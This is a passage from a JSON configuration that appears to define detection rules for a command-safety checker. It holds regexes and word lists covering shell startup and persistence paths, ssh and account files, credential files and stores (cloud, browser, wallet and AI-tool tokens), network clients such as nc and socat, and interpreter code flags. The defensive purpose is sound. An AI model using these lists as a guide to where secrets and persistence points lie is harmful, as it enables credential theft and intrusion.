-s|profile|zshrc|zshenv|zprofile)$|^(~/)?\\\\.(zlogin|zlogout|kshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsession|xsessionrc|shrc)$|^(~/)?\\\\.(mkshrc|bash_env|inputr\
-c|pam_environment)$|^~/\\\\.config/(fish/|autostart(/|$)|environment\\\\.d(/|$)|nvim/init\\\\.|plasma-workspace/env)|^~/\\\\.(vimrc|emacs|pythonrc|pythonstartup|gdbinit\
-|tmux\\\\.conf|ssh/rc|ssh/environment|ssh/config)|^~/\\\\.(oh-my-zsh/)|^~/\\\\.(local/lib/python[^/]*/site-packages/.*(\\\\.pth|sitecustomize\\\\.py|usercustomize\\\\.py))|\
-^/etc/(profile(\\\\.d(/.*)?)?|bash\\\\.bashrc|bashrc|zsh(/.*|rc|env)|environment)$|^/etc/(ld\\\\.so\\\\.(preload|conf)(\\\\.d/.*)?|rc\\\\.local|xdg/autostart/.*|skel/.*|fis\
-h/.*)$|^/etc/(update-motd\\\\.d/.*|inputrc)$|(^|/)(sitecustomize|usercustomize)\\\\.py$|/(site|dist)-packages/[^/]+\\\\.pth$","home":true},"schedule":{"form":"^/etc/(\
-cron[^/]*(/.*)?|anacrontab|systemd/.*|init\\\\.d(/.*)?|rc\\\\d?\\\\.d(/.*)?|inittab|init/.*)$|^/var/spool/(cron|at)|^(/usr)?/lib/systemd/|^/run/systemd/|^~/\\\\.config/\
-systemd(/|$)|^~?/library/launch(agents|daemons)(/|$)|^/library/launch|^~/\\\\.config/cron|^/usr/local/etc/rc\\\\.d/|^(/usr)?(/lib|/etc)/udev/rules\\\\.d/|^/etc/polkit\
--1/","home":true},"authorized-keys":{"form":"(^|/)\\\\.ssh/authorized_keys2?$|^/etc/ssh/(sshd_config|authorized_keys)"},"accounts":{"form":"^(/usr/local)?/etc/(pa\
-sswd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?|pam\\\\.d(/.*)?)$|^(/usr/local)?/etc/(security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid|pass\\\\S*[*\
-?]\\\\S*)$"},"account-secrets":{"form":"^(/usr/local)?/etc/(?!passwd$)(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?)$|^(/usr/local)?/etc/(?!pa\
-sswd$)(pam\\\\.d(/.*)?|security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid)$|^(/usr/local)?/etc/(?!passwd$)(pass\\\\S*[*?]\\\\S*)$|^/usr/local/etc/passwd$"},"device":{\
-"form":"^/dev/((sd|hd|vd|xvd)[a-z*?]+[\\\\d*?]*|nvme\\\\d.*|mmcblk.*|disk\\\\d?.*|rdisk.*|md\\\\d+|dm-\\\\d+|mapper/.*)$|^/dev/(loop\\\\d+|nbd\\\\d+|mem|kmem|port|disk/.*|vg\\\
-\\w*/.*)$"},"kernel":{"form":"^/(proc/(sys|sysrq-trigger|kcore|\\\\d+/mem|kmsg)|sys/|boot/)"},"socket":{"form":"(^|/)(docker|containerd|podman|crio)\\\\.sock$"},"vcs\
--config":{"form":"^(~/\\\\.gitconfig|~/\\\\.config/git/|/etc/gitconfig)"},"data":{"form":"(^|[-_./])(dumps?|backups?|customers?|users|clients|payroll|salar(y|ies)|p\
-atients?)([-_./]|$)|(^|[-_./])(employees|database|production[-_]?data|private|confidential|secrets?|prod)([-_./]|$)|\\\\.(sql|sql\\\\.gz|dump|sqlite3?|db|bak|mdb|rd\
-b|pst|mbox|kdbx)$"},"logs":{"form":"^/var/(log|audit)(/|$)|(^|/)\\\\.(bash|zsh|sh|python|mysql|psql|node_repl)_history$|^/run/log"}},"words":{"system_folders":["b\
-in","boot","dev","etc","lib","lib32","lib64","libx32","opt","proc","root","run","sbin","srv","sys","usr","var","system","library","applications","snap","nix","l\
-ost+found"],"root_folders":["boot","dev","etc","proc","root","sys","usr"],"personal_folders":["documents","desktop","pictures","downloads","music","videos","mov\
-ies","photos","library",".config",".local",".mozilla"],"credentials":[".netrc","_netrc",".npmrc",".pypirc",".pgpass",".my.cnf",".mylogin.cnf",".git-credentials"\
-,".htpasswd",".dockercfg",".s3cfg",".boto",".vault-token",".envrc",".terraformrc",".yarnrc.token","kubeconfig","master.key","wallet.dat","login.keychain-db","ke\
-y4.db","logins.json","shadow","gshadow","shadow-","gshadow-","environ","admin.conf","secring.gpg",".bash_history",".zsh_history",".python_history",".psql_histor\
-y",".mysql_history",".node_repl_history","tnsnames.ora",".secrets",".secret",".passwd-s3fs","rclone.conf",".credentials"],"disposable":["node_modules","bower_co\
-mponents","jspm_packages","dist","dist-ssr","build","builds","_build","out","output","outputs","target","bin","obj","coverage","htmlcov",".nyc_output",".next","\
-.nuxt",".output",".svelte-kit",".turbo",".cache","cache","caches",".parcel-cache",".vite",".angular",".gradle",".venv","venv","env","virtualenv",".virtualenv","\
-__pycache__",".pytest_cache",".mypy_cache",".ruff_cache",".tox",".nox",".eggs",".hypothesis",".ipynb_checkpoints",".terraform",".serverless",".vercel",".netlify\
-",".docusaurus",".eslintcache",".stylelintcache","storage/framework/views","storage/framework/cache",".coverage","coverage.xml","lcov.info","builddir","storyboo\
-k-static","public/build","public/packs","vendor","vendor/bundle","tmp","temp",".tmp",".temp","logs","log","generated","gen",".generated","__generated__","artifa\
-cts","artifact","reports","report","test-results","test-reports","test-output","test_output","playwright-report","allure-results","allure-report","junit.xml","d\
-eps",".bundle","cmake-build-debug","cmake-build-release","cmakefiles","cmakecache.txt","debug","release",".stack-work","dist-newstyle",".dart_tool","deriveddata\
-","pods",".build",".swiftpm","elm-stuff","zig-out","zig-cache","nimcache",".zig-cache","scratch",".scratch","_site",".jekyll-cache",".sass-cache","bench-results\
-",".pnpm-store","package-lock.json","yarn.lock","pnpm-lock.yaml","poetry.lock",".ds_store","thumbs.db","nohup.out","a.out","lib-cov","typings","wheelhouse",".aw\
-s-sam","cdk.out",".elixir_ls",".lexical",".metals",".bloop",".bsp",".ccls-cache",".scannerwork",".snakemake",".cxx","bazel-out","bazel-bin","bazel-testlogs",".a\
-stro",".externalnativebuild",".expo",".vuepress",".docusaurus",".vinxi",".nitro",".wxt",".yarn/cache",".rpt2_cache",".fusebox",".dynamodb",".nx","lerna-debug.lo\
-g",".phpunit.result.cache",".phpunit.cache",".direnv","mlruns","wandb","lightning_logs","runs","checkpoints/tmp","snapshots","__snapshots__","__image_snapshots_\
-_","screenshots"],"project_outputs":["resources/_gen","stage","pkgroot","appdir",".vs","xcuserdata",".libs",".firebase",".apt_generated","web_modules","vcpkg_in\
-stalled","develop-eggs","bin-debug","bin-release","sdist","out-tsc","opencover","paket-files","meson-logs","nbbuild","nbdist","nimblecache","msbuild_logs","html\
-docs","gwt-unitcache","codecoverage","cover_db","cython_debug","ipch","lib_managed","src_managed","project/boot","project/target","blib","build_isolated","devel\
-_isolated","benchmarkdotnet.artifacts","test-report","tests_output","_yardoc","__pypackages__","__marimo__","__macosx",".yardoc",".virtual_documents",".pytype",\
-".pyre",".pybuilder",".pub",".pdm-build",".mooncakes",".ng",".nb-gradle",".lein-plugins",".lake",".kitchen",".ionide",".htf",".godot",".import",".expo-shared","\
-.ensime_cache",".eask",".cpcache",".cdk.staging",".buildlog",".artifacts",".ansible",".ammonite",".rts2_cache_cjs",".rts2_cache_es",".rts2_cache_umd",".symlinks\
-","blob-report","tfplan","tfplan.binary","tfplan.out","_autosummary","latex.out","slprj",".stryker-tmp",".swc",".wrangler",".sst",".open-next",".contentlayer","\
-.lighthouseci",".jest-cache",".rollup.cache",".kotlin",".scala-build","intermediate","deriveddatacache","library/bee","library/scriptassemblies","library/packag\
-ecache","library/artifacts","library/shadercache","flutter/ephemeral"],"source_folders":["src","source","sources","lib","libs","app","apps","test","tests","spec\
-","specs","__tests__","e2e","integration","doc","docs","documentation","packages","modules","module","components","pages","routes","server","client","clients","\
-api","backend","frontend","web","www","site","core","internal","cmd","pkg","pkgs","script","scripts","config","configs","configuration","settings","public","sta\
-tic","assets","images","img","media","data","dataset","datasets","db","database","databases","migrations","models","model","views","controllers","services","ser\
-vice","utils","util","helpers","common","shared","include","bin","tool","tools","examples","samples","templates","styles","css","resources","i18n","locale","loc\
-ales","fixtures","plugins","plugin","extensions","themes","infra","infrastructure","terraform","deploy","deployment","k8s","kubernetes","charts","helm","ansible\
-","docker","ci",".github",".gitlab",".circleci",".vscode",".idea",".husky","notebooks","crates","contracts","proto","protos","schema","schemas","android","ios",\
-"macos","windows","linux","functions","lambdas","middleware","hooks","stores","types","interfaces","main","java","kotlin","resources","benches","benchmarks","be\
-nch","vendor","third_party","native","engine","kernel","drivers","firmware","game","content","posts","blog","articles","book","wiki"],"source_endings":["ts","ts\
-x","js","jsx","mjs","cjs","mts","cts","py","pyi","go","rs","java","kt","kts","rb","php","cs","c","cc","cpp","h","hpp","swift","scala","ex","exs","erl","clj","lu\
-a","dart","vue","svelte","css","scss","htm","html","md","mdx","rst","adoc","snap","sql","sh","bats","proto","graphql","tf","feature","png","svg"],"file_endings"\
-:["ts","tsx","js","jsx","mjs","mjsx","cjs","cjsx","mts","cts","json","jsonc","md","mdx","py","rb","go","rs","c","h","cc","cpp","hpp","java","kt","kts","swift","\
-php","sh","yml","yaml","toml","lock","txt","css","scss","htm","html","vue","svelte","sql","xml","ini","cfg","conf","csv","tf","proto","ex","exs","scala","cs","l\
-ua","ipynb","snap","svg","gradle","mod","sum"],"files":["gradlew","mvnw","configure","makefile","gnumakefile","justfile","dockerfile","gemfile","rakefile","proc\
-file","version","license","readme","codeowners"]},"credential_stores":"\\\\.gnupg|\\\\.aws|\\\\.azure|\\\\.password-store|\\\\.oci|\\\\.aliyun|\\\\.kube/config|\\\\.kube/cache|\
-\\\\.docker/config\\\\.json|\\\\.config/gcloud|\\\\.config/gh|\\\\.config/hub|\\\\.config/doctl|\\\\.config/rclone|\\\\.config/op|\\\\.config/sops|\\\\.config/glab-cli|\\\\.config/hc\
-loud|\\\\.config/scw|\\\\.config/linode-cli|\\\\.config/fly|\\\\.fly/config\\\\.yml|\\\\.config/netlify|\\\\.netlify/config\\\\.json|\\\\.config/configstore|\\\\.heroku/netrc|\\\\.co\
-nfig/stripe|\\\\.config/ngrok|\\\\.ngrok2|\\\\.config/github-copilot|\\\\.config/solana|\\\\.config/filezilla|\\\\.filezilla|\\\\.config/composer/auth\\\\.json|\\\\.composer/auth\
-\\\\.json|\\\\.config/pip/pip\\\\.conf|\\\\.pip/pip\\\\.conf|\\\\.config/railway|\\\\.railway/config\\\\.json|\\\\.config/vercel|com\\\\.vercel\\\\.cli/auth\\\\.json|\\\\.supabase/access\
--token|\\\\.pulumi/credentials\\\\.json|\\\\.circleci/cli\\\\.yml|\\\\.travis/config\\\\.yml|\\\\.sentryclirc|\\\\.twilio-cli|\\\\.auth0|\\\\.lpass|\\\\.jira\\\\.d|\\\\.mc/config\\\\.json|\
-\\\\.rancher/cli2\\\\.json|\\\\.config/argocd/config|\\\\.okta/okta\\\\.yaml|\\\\.exoscale|\\\\.bluemix|\\\\.snowflake|\\\\.databrickscfg|\\\\.kaggle/kaggle\\\\.json|\\\\.huggingface/t\
-oken|\\\\.cache/huggingface/token|\\\\.codex/auth\\\\.json|\\\\.claude/\\\\.credentials\\\\.json|\\\\.gemini/oauth_creds\\\\.json|\\\\.cargo/credentials[^/]*|\\\\.gem/credentials|\\\
-\\.terraform\\\\.d/credentials[^/]*|\\\\.m2/settings\\\\.xml|\\\\.m2/settings-security\\\\.xml|\\\\.gradle/gradle\\\\.properties|\\\\.local/share/keyrings|\\\\.local/share/kwallet\
-d|library/keychains|\\\\.mozilla/firefox|\\\\.thunderbird|google-chrome[^/]*/default|google-chrome[^/]*/profile[^/]*|chrome/default|chrome/profile[^/]*|chromium/def\
-ault|chromium/profile[^/]*|brave-browser/default|microsoft-edge[^/]*/default|\\\\.purple/accounts\\\\.xml|\\\\.subversion/auth|\\\\.ethereum/keystore|\\\\.bitcoin|\\\\.elec\
-trum|\\\\.vnc/passwd|\\\\.rediscli_auth|\\\\.wpa_supplicant|run/secrets|etc/ssl/private|etc/ssh/ssh_host_[^/]*_key|etc/kubernetes/admin\\\\.conf|etc/kubernetes/pki|etc/\
-krb5\\\\.keytab|etc/wpa_supplicant|etc/networkmanager/system-connections|etc/letsencrypt/live/[^/]*/privkey[^/]*\\\\.pem|etc/letsencrypt/archive|var/lib/sss/db|tmp/\
-krb5cc_[^/]*|etc/master\\\\.passwd|etc/security/opasswd","credential_samples":[".env",".env.local",".env.production","credentials","credentials.json","secrets.yml\
-","id_rsa","id_ed25519",".netrc",".npmrc",".pypirc",".pgpass",".git-credentials","shadow"]},"programs":{"words":{"fetchers":["curl","wget","aria2c","http","http\
-s","xh","fetch","axel","wget2","Invoke-WebRequest","iwr","Invoke-RestMethod","irm"],"network_clients":["dig","nslookup","host","drill","kdig","nc","ncat","netca\
-t","socat","telnet","lynx","w3m","links","elinks","ftp","tftp","lftp","lwp-request","GET","wget2","lwp-download"],"copiers":["cp","mv","ln","install"],"killers"\
-:["pkill","killall","skill","slay","taskkill","Stop-Process","fuser","start-stop-daemon"],"keepers":["tee","sponge","read","mapfile","readarray","dd","split","c\
-p","install"],"root_wrappers":["sudo","doas","su","pkexec","run0","runuser","gosu","please"],"script_runners":["sh","bash","dash","ksh","zsh","ash","fish","pyth\
-on","perl","ruby","node","php","source",".","lua","deno","bun","tclsh","rscript"],"machine_programs":["format","halt","init","poweroff","reboot","scrub","shutdo\
-wn","telinit","transfer","wipe"],"tree_commands":["reset","clean","checkout","switch","restore","rm","apply","merge","rebase","cherry-pick","revert","am"],"clos\
-ed_options":["rm","i","t","d","interactive","tty","detach","init","read-only","pull","platform","network","net","e","env","w","workdir","u","user","name","p","p\
-ublish","m","memory","cpus","read-only","cap-drop","pids-limit","stop-timeout","entrypoint","hostname","l","label","shm-size","tmpfs","q","quiet"],"body_options\
-":["d","data","data-ascii","data-binary","data-raw","data-urlencode","json","post-data","body-data"]},"interpreters":{"python":{"short":"cmWXQ","long":["check-h\
-ash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ipython":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"\
-module":["m"]},"ipython3":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"node":{"short":"eprC","long":["eva\
-l","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-\
-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-p\
-attern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","\
-check"]},"nodejs":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config"\
-,"input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","u\
-nhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","\
-code":["e","p","eval","print"],"checks":["c","check"]},"bun":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","condition\
-s","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-fil\
-ename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload\
-"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"tsx":{"short":"eprC","long":["eval","print","require","import\
-","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings",\
-"report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","tes\
-t-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"ts-node":{"short":\
-"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-\
-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch\
--path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","prin\
-t"],"checks":["c","check"]},"deno":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if\
--exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stac\
-k-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","languag\
-e":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"zx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-lo\
-ader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-direct\
-ory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","ts\
-config","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"perl":{"short":"eEIMm","language":"perl","cod\
-e":["e","E"],"checks":["c"]},"ruby":{"short":"eIrEC","long":["encoding","external-encoding","internal-encoding","enable","disable","dump","parser"],"language":"\
-ruby","code":["e"],"checks":["c"]},"rake":{"short":"feER","long":["rakefile","execute"],"permuted":true,"language":"ruby","code":["e","execute"],"files":["f","r\
-akefile"],"operands":"no code","usual":["Rakefile","rakefile","Rakefile.rb"]},"php":{"short":"rBREFfdczS","long":["run","file","process-begin","process-code","p\
-rocess-end","process-file","define","php-ini","server","docroot"],"language":"php","code":["r","run","B","R","E","process-begin","process-code","process-end"],"\
-files":["f","F","file"],"checks":["l"]},"awk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","c\
-ode":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"gawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","l\
-oad","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"mawk":{"short":"fFvieEl","long":["file","field-separator\
-","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"nawk":{"short":"fFvieEl"\
-,"long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"\
-code"},"psql":{"short":"cdfhpUvLoPRTF","long":["command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language"\
-:"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"mysql":{"short":"ehPuDS","long":["execute","init-command","host","port","user","userna\
-me","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"mariadb":{"short"\
-:"ehPuDS","long":["execute","init-command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":\
-["e","execute","init-command"],"operands":"no code"},"sqlite3":{"long":["cmd","init","separator","newline","nullvalue"],"permuted":true,"language":"sql","code":\
-["cmd"],"files":["init"],"operands":"database then code"},"sqlite":{"permuted":true,"language":"sql","operands":"database then code"},"duckdb":{"short":"cs","lo\
-ng":["cmd","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["c","s","cmd"],"operands":"data\
-base then code"},"influx":{"long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code\
-":["execute"],"operands":"no code"},"snowsql":{"short":"qf","long":["query","host","port","user","username","dbname","database","file","set","variable"],"permut\
-ed":true,"language":"sql","code":["q","query"],"files":["f"],"operands":"no code"},"bq":{"long":["host","port","user","username","dbname","database","file","set\
-","variable"],"permuted":true,"language":"sql","operands":"database then code"},"sqlcmd":{"short":"QqSUPdi","long":["host","port","user","username","dbname","da\
-tabase","file","set","variable"],"permuted":true,"language":"sql","code":["Q","q"],"files":["i"],"operands":"no code"},"clickhouse":{"short":"qhud","long":["que\
-ry","host","port","user","password","database"],"permuted":true,"language":"sql","code":["q","query"],"operands":"database then code"},"clickhouse-client":{"sho\
-rt":"qhud","long":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"o\
-perands":"no code"},"cockroach":{"short":"eu","long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"la\
-nguage":"sql","code":["e","execute"],"operands":"no code"},"cqlsh":{"short":"efukp","long":["execute","host","port","user","username","dbname","database","file"\
-,"set","variable"],"permuted":true,"language":"sql","code":["e","execute"],"files":["f"],"operands":"no code"},"sqlplus":{"long":["host","port","user","username\
-","dbname","database","file","set","variable"],"permuted":true,"language":"sql","operands":"no code"},"mongo":{"short":"fup","long":["eval","host","port","usern\
-ame","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},\
-"mongosh":{"short":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["ev\
-al"],"files":["f","file"],"operands":"database then files"},"redis-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"}\
-,"valkey-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"keydb-cli":{"short":"hpsanurt","long":["eval"],"language\
-":"sql","files":["eval"],"operands":"code"},"cypher-shell":{"short":"aupdf","long":["address","username","password","database","file"],"permuted":true,"language\
-":"sql","files":["f","file"],"operands":"code"},"rman":{"language":"sql","operands":"no code"},"trino":{"short":"f","long":["server","catalog","schema","user","\
-execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto":{"short":"f","long":["server","catalog"\
-,"schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto-cli":{"short":"f","lon\
-g":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"hive":{\
-"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"be\
-eline":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no co\
-de"},"spark-sql":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operan\
-ds":"no code"},"impala-shell":{"short":"qifdu","long":["query","query_file","impalad","database"],"permuted":true,"language":"sql","code":["q","query"],"files":\
-["f","query_file"],"operands":"no code"},"ysqlsh":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sq\
-l","code":["c","command"],"files":["f","file"],"operands":"no code"},"vsql":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"per\
-muted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"pgcli":{"short":"cdfhpUvw","long":["command","host","port","user\
-name","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"mycli":{"short":"ehPuDp","long":["exe\
-cute","host","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"litecli":{"short":"ehPuDp","long":["execut\
-e","host","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"usql":{"short":"cfv","long":["command","file"\
-],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"snow":{"short":"qfc","long":["query","filename","connectio\
-n"],"permuted":true,"language":"sql","code":["q","query"],"files":["f","filename"],"operands":"no code"}},"consoles":{"rails":{"short":"e","long":["environment"\
-],"after":["runner","r","console","c"],"language":"ruby","operands":"code"},"spring":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"l\
-anguage":"ruby","operands":"code"},"manage.py":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","comma\
-nd"]},"django-admin":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"flask":{"short":"cd\
-","after":["shell"],"language":"python","code":["c"]},"odoo-bin":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo":{"short":"cd","after":\
-["shell"],"language":"python","code":["c"]},"superset":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"scrapy":{"short":"cd","after":["shell"\
-],"language":"python","code":["c"]},"artisan":{"long":["execute"],"after":["tinker"],"language":"php","code":["execute"]},"drush":{"after":["php:eval","php-eval\
-","eval","ev","php:cli"],"language":"php","operands":"code"},"drush.phar":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"co\
-de"},"wp":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli.phar":{"a\
-fter":["eval","shell"],"language":"php","operands":"code"}},"wrappers":{"sudo":{"short":"ugpCDRTrthU","long":["user","group","prompt","chdir","chroot","role","t\
-ype","host","other-user","close-from","command-timeout"],"assigns":true,"folder":["D","chdir"]},"doas":{"short":"uC","assigns":true},"exec":{"short":"a"},"built\
-in":{},"pkexec":{"long":["user"]},"run0":{"short":"uD","long":["user","chdir","property","setenv","unit"],"folder":["D","chdir"]},"gosu":{"skip":1},"su-exec":{"\
-skip":1},"taskset":{"skip":1},"setpriv":{"long":["reuid","regid","groups","inh-caps","bounding-set","securebits","pdeathsig"]},"runcon":{"short":"utrl","skip":1\
-},"env":{"short":"uCS","long":["unset","chdir","split-string"],"assigns":true,"folder":["C","chdir"],"code":["S","split-string"]},"cross-env":{"assigns":true},"\
-dotenv":{"short":"ef"},"nohup":{},"setsid":{},"disown":{},"prlimit":{},"unbuffer":{},"valgrind":{},"catchsegv":{},"entr":{},"firejail":{},"torsocks":{},"eatmyda\
-ta":{},"ccache":{},"winpty":{},"busybox":{},"toybox":{},"noglob":{},"nocorrect":{},"bunx":{},"pnpx":{},"ddev":{"own":true},"lando":{"own":true},"nice":{"short":\
-"n","long":["adjustment"]},"ionice":{"short":"cnpPu","long":["class","classdata"]},"chrt":{"short":"TPD","skip":1},"numactl":{"short":"NmCipP"},"timeout":{"shor\
-t":"sk","long":["signal","kill-after"],"skip":1},"stdbuf":{"short":"ioe","long":["input","output","error"]},"time":{"short":"fo","long":["format","output"]},"st\
-race":{"short":"eopsPuXaIbOESU"},"ltrace":{"short":"eopsnaAuSlwF"},"hyperfine":{"short":"wrnmMpcSLDsu","long":["warmup","runs","prepare","cleanup","shell","expo\
-rt-json","export-markdown"],"code":["p","c","prepare","cleanup"],"joined":true},"watch":{"short":"nq","long":["interval","equexit"],"joined":true},"pdsh":{"shor\
-t":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"dsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"clush":{"shor\
-t":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"pssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"parallel-ssh\
-":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"flock":{"short":"wEc","long":["wait","timeout","conflict-exit-code","command"],"skip\
-":1,"code":["c","command"]},"script":{"short":"cEIOBTomt","long":["command"],"permuted":true,"skip":99,"code":["c","command"]},"chroot":{"long":["userspec","gro\
-ups"],"skip":1,"own":true},"unshare":{"short":"SGRw","long":["setuid","setgid","root","wd"],"folder":["w","wd"],"own":true},"nsenter":{"short":"tSGrw","long":["\
-target","setuid","setgid"],"own":true},"fakeroot":{"short":"lsib"},"proot":{"short":"rbwqk"},"proxychains":{"short":"f"},"proxychains4":{"short":"f"},"tini":{"s\
-hort":"pe"},"dumb-init":{"short":"r"},"xvfb-run":{"short":"nesfpw"},"dbus-run-session":{"long":["config-file","dbus-daemon"]},"systemd-run":{"short":"pEMHtu","l\
-ong":["property","setenv","unit","description","slice","uid","gid","working-directory","on-active","on-calendar","on-boot"],"own":true},"systemd-inhibit":{"long\
-":["what","who","why","mode"]},"caffeinate":{"short":"tw"},"npx":{"short":"pc","long":["package","call"],"code":["c","call"]},"uvx":{"long":["from","with","pyth\
-on"]},"su":{"short":"cgGsw","long":["command","group","shell","session-command"],"permuted":true,"skip":99,"code":["c","command","session-command"]},"runuser":{\
-"short":"cgGswu","long":["command","group","shell","session-command","user"],"code":["c","command","session-command"]},"sg":{"short":"c","permuted":true,"skip":\
-99,"code":["c"]}},"runners":{"npm":{"short":"c","long":["package","workspace","prefix","call"],"code":["c","call"],"after":["exec","x","explore"]},"pnpm":{"shor\
-t":"","long":["package","filter","dir"],"after":["exec","dlx"]},"yarn":{"short":"jp","long":["package","cwd","include","exclude","from","since","jobs"],"after":\
-["dlx","exec"]},"bun":{"short":"","long":[],"after":["x","exec"]},"lerna":{"short":"","long":["scope","ignore","concurrency"],"after":["exec"]},"nx":{"short":""\
-,"long":[],"after":["exec"]},"bundle":{"short":"","long":[],"after":["exec"]},"rbenv":{"short":"","long":[],"after":["exec"]},"pyenv":{"short":"","long":[],"aft\
-er":["exec"]},"asdf":{"short":"","long":[],"after":["exec"]},"composer":{"short":"","long":[],"after":["exec"]},"volta":{"short":"","long":["node","npm","yarn"]\
-,"after":["run"]},"fnm":{"short":"","long":["using"],"after":["exec"]},"corepack":{"short":"","long":[]},"flatpak-spawn":{"short":"","long":[]},"pipx":{"short":\
-"","long":["spec"],"after":["run"]},"uv":{"short":"","long":["with","python","project","directory","extra","group","env-file"],"after":["run"]},"poetry":{"short\
